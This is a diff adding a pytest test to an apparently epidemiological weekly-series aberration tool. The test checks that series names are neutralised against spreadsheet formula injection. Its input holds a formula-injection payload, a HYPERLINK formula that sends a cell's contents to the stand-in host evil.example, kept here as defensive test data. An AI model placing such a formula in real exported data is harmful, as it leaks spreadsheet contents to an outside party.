@@ -105,6 +105,27 @@ def test_unsorted_rows_and_gaps_are_fine(monkeypatch, capsys, database_url):
     assert by_period[str(start + timedelta(weeks=3))]["alarm"] == ""  # too little history
 
 
+def test_series_names_cannot_run_as_formulas(monkeypatch, capsys, database_url):
+    start = date(2023, 1, 2)
+    name = '=HYPERLINK("http://evil.example/?"&A1,"x")'
+    lines = [
+        f'"{name.replace(chr(34), chr(34) * 2)}",{start + timedelta(weeks=i)},{i % 3}'
+        for i in range(10)
+    ]
+    r = analyze(
+        monkeypatch,
+        capsys,
+        database_url,
+        "aberration",
+        "-",
+        "--method",
+        "ears-c1",
+        stdin="series,period,count\n" + "\n".join(lines) + "\n",
+    )
+    assert r.code == 0, r.err
+    assert {o["series"] for o in rows(r.out)} == {"'" + name}
+
+
 def test_a_period_depends_only_on_its_own_history():
     text = (REFERENCE / "aberration_input.csv").read_text()
     from eocnet.interop.series_files import read_weekly_series
